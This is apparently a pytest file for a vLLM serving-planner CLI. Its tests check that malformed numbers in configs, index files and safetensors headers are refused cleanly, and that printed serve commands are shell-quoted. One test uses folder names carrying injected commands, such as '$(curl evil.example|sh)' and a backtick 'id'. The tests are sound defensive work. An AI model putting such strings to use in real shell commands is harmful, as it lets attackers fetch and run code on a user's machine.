"""Issue 14 item 6 (and the number-shaped parts of item 10): hostile numbers in a config, an index or a header
are refused where they enter, with one line and exit 2, never an internal error (exit 4)."""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

import pytest
from cli_run import golden_config, run_cli

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from stwriter import header_bytes  # noqa: E402



def golden(name: str) -> dict:
    return golden_config(name)


def run(argv: list[str]) -> tuple[int, str]:
    rc, out, err = run_cli(argv)
    return rc, out + err


def model_dir(tmp_path: Path, config: dict, **files: bytes | str) -> str:
    folder = tmp_path / "model"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text(json.dumps(config))
    for name, content in files.items():
        path = folder / name.replace("__", ".")
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return str(folder)


def assert_bad_input(argv: list[str], *words: str) -> str:
    rc, output = run(argv)
    assert rc == 2, output[-400:]
    line = output.strip()
    assert len(line.splitlines()) == 1 and "internal error" not in line, line
    for word in words:
        assert word in line, line
    return line


def _rope(factor, rope_type="dynamic", original=None):
    config = golden("llama31_8b.json")
    config["rope_scaling"] = {"rope_type": rope_type, "factor": factor}
    if original is not None:
        config["rope_scaling"]["original_max_position_embeddings"] = original
    return config


@pytest.mark.parametrize("factor", [1e-10, 1e308, 0.0000001])
@pytest.mark.parametrize("rope_type", ["dynamic", "yarn", "linear"])
@pytest.mark.parametrize("version", ["0.10.1", "0.11.0", "0.12.0", "0.33.0"])
def test_absurd_rope_factor(tmp_path: Path, factor: float, rope_type: str, version: str) -> None:
    folder = model_dir(tmp_path, _rope(factor, rope_type))
    assert_bad_input(["plan", folder, "--gpu", "L4", "--vllm-version", version], "rope_scaling.factor")


@pytest.mark.parametrize("version", ["0.10.1", "0.11.0", "0.12.0"])
def test_yarn_original_one_on_the_releases_that_scale_it(tmp_path: Path, version: str) -> None:
    """0.10-0.12 scale YaRN's original_max_position_embeddings (spec §1.3): 1 x 0.5 is half a token."""
    folder = model_dir(tmp_path, _rope(0.5, "yarn", original=1))
    for flags in (["--gpu", "L4"], ["--kv-cache-memory-bytes", "8G"]):
        assert_bad_input(["plan", folder, *flags, "--vllm-version", version], "original_max_position_embeddings")


def test_granite_hybrid_auto_head_dim_of_zero(tmp_path: Path) -> None:
    config = golden("tiny_granite_hybrid.json")
    config.update(mamba_d_head="auto", mamba_n_heads=100_000)
    assert_bad_input(["plan", model_dir(tmp_path, config), "--kv-cache-memory-bytes", "8G"], "mamba_d_head")


def test_lfm2_conv_cache_of_one_is_a_zero_byte_state(tmp_path: Path) -> None:
    config = golden("fam_lfm2.json")
    config["conv_L_cache"] = 1
    assert_bad_input(["plan", model_dir(tmp_path, config), "--kv-cache-memory-bytes", "8G"], "conv_L_cache")


@pytest.mark.parametrize("expand", [1e308, 1e-9])
def test_falcon_h1_mamba_expand(tmp_path: Path, expand: float) -> None:
    config = golden("tiny_granite_hybrid.json")
    config.update(architectures=["FalconH1ForCausalLM"], model_type="falcon_h1", mamba_expand=expand,
                  mamba_d_ssm=None, head_dim=64)
    assert_bad_input(["plan", model_dir(tmp_path, config), "--kv-cache-memory-bytes", "8G"], "mamba_expand")


@pytest.mark.parametrize("total", ["9" * 4000, "1" + "0" * 3999, str(2**61)])
def test_index_total_size_of_thousands_of_digits(tmp_path: Path, total: str) -> None:
    index = '{"metadata": {"total_size": %s}, "weight_map": {"a": "m.safetensors"}}' % total
    folder = model_dir(tmp_path, golden("llama31_8b.json"), model__safetensors__index__json=index)
    assert_bad_input(["plan", folder, "--gpu", "L4"], "total_size")


@pytest.mark.parametrize("digits", [5000, 4000, 40])
def test_tensor_layer_index_of_thousands_of_digits(tmp_path: Path, digits: int) -> None:
    head, data = header_bytes({f"model.layers.{'1' * digits}.self_attn.k_proj.weight": ("BF16", [8, 4])})
    folder = model_dir(tmp_path, golden("llama31_8b.json"), model__safetensors=head + bytes(data))
    assert_bad_input(["plan", folder, "--gpu", "L4"], "model.safetensors")


def test_index_with_thousands_of_shards_is_refused_before_reading_them(tmp_path: Path) -> None:
    weight_map = {f"t{i}": f"model-{i:05d}.safetensors" for i in range(3000)}
    index = json.dumps({"metadata": {"total_size": 10}, "weight_map": weight_map})
    folder = model_dir(tmp_path, golden("llama31_8b.json"), model__safetensors__index__json=index,
                       model__00000__safetensors=b"x")
    (Path(folder) / "model-00000.safetensors").write_bytes(b"")
    assert_bad_input(["plan", folder, "--gpu", "L4"], "shard")


@pytest.mark.parametrize("where", ["missing/dir/chart.svg", "adir.svg"])
def test_sweep_plot_into_a_missing_folder_or_onto_a_folder(tmp_path: Path, where: str) -> None:
    (tmp_path / "adir.svg").mkdir()
    assert_bad_input(["sweep", "meta-llama/Llama-3.1-8B-Instruct", "--gpu", "L4", "--workers", "1",
                      "--plot", str(tmp_path / where)], "--plot")


@pytest.mark.parametrize("name", ["my model", "x $(curl evil.example|sh) #", "a'b\"c;`id`"])
def test_serve_line_is_shell_quoted(tmp_path: Path, name: str) -> None:
    """Issue 14 item 8: the printed `vllm serve` line pastes as exactly one model argument."""
    import shlex

    folder = tmp_path / name
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(golden("llama31_8b.json")))
    rc, output = run(["plan", str(folder), "--kv-cache-memory-bytes", "80G", "--kv-cache-dtype", "fp8"])
    assert rc == 0, output
    command = output[output.index("vllm serve"):].replace("\\\n", " ")
    words = shlex.split(command.splitlines()[0])
    assert words[:3] == ["vllm", "serve", str(folder)]
    assert "--kv-cache-dtype" in words and words[words.index("--kv-cache-dtype") + 1] == "fp8"
